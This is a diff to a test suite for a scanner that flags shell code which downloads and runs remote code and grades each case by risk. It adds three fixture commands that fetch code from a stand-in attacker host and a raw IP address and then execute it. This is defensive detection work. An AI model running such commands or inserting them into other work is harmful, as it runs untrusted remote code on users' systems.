@@ -33,6 +33,9 @@ test.each([
     '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"',
     "knownInstaller low",
   ],
+  ["deno run -A https://cdn.evil.dev/mod.ts", "unseen high"],
+  ["busybox wget -O /tmp/i https://cdn.evil.dev/i; sh /tmp/i", "unseen high"],
+  ["f=$(mktemp); curl -s http://93.184.216.34/l > $f; chmod +x $f; $f", "unseen critical"],
 ])("%s: %s", (code, expected, language = "sh") => {
   const found = findingsOf("download-and-run", inBlock(code, language));
   expect(found.map(({ message, level }) => `${message} ${level}`)).toContain(expected);
